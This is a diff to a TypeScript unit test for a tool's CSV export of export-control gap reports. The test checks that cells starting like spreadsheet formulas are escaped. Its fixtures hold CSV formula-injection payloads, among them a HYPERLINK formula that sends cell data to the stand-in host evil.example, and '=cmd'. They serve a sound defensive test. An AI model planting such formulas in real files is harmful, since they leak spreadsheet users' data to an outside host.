@@ -12,6 +12,10 @@ const report: GapReport = {
       lackingIn: 'EU',
       heading: '=HYPERLINK("http://evil.example/?d="&A1,"details")',
       note: '-2+3',
+      evidence: [
+        'US:3A090: no regime origin (national entry; reasons RS, AT)',
+        'US:3A090: no crosswalk link',
+      ],
     },
     {
       entry: 'US:3A991',
@@ -20,18 +24,20 @@ const report: GapReport = {
       lackingIn: 'EU',
       heading: '@SUM(A1:A9)',
       note: 'Electronic devices, "not elsewhere specified"',
+      evidence: ['=cmd'],
     },
   ],
+  cleared: [],
   summary: { unilateral: { 'US→EU': 2 } } as unknown as GapReport['summary'],
   notes: [],
 };
 
 describe('entente gaps --csv', () => {
-  it('writes cells that start like a formula as quoted text, prefixed with an apostrophe', () => {
+  it('writes the evidence path as one cell, and cells that start like a formula as quoted text with an apostrophe', () => {
     expect(gapsCsv(report).split('\n')).toEqual([
-      'entry,category,controlledBy,lackingIn,heading,note',
-      `US:3A090,unilateral,US,EU,"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")","'-2+3"`,
-      `US:3A991,unilateral,US,EU,"'@SUM(A1:A9)","Electronic devices, ""not elsewhere specified"""`,
+      'entry,category,controlledBy,lackingIn,heading,note,evidence',
+      `US:3A090,unilateral,US,EU,"'=HYPERLINK(""http://evil.example/?d=""&A1,""details"")","'-2+3","US:3A090: no regime origin (national entry; reasons RS, AT) | US:3A090: no crosswalk link"`,
+      `US:3A991,unilateral,US,EU,"'@SUM(A1:A9)","Electronic devices, ""not elsewhere specified""","'=cmd"`,
     ]);
   });
 });
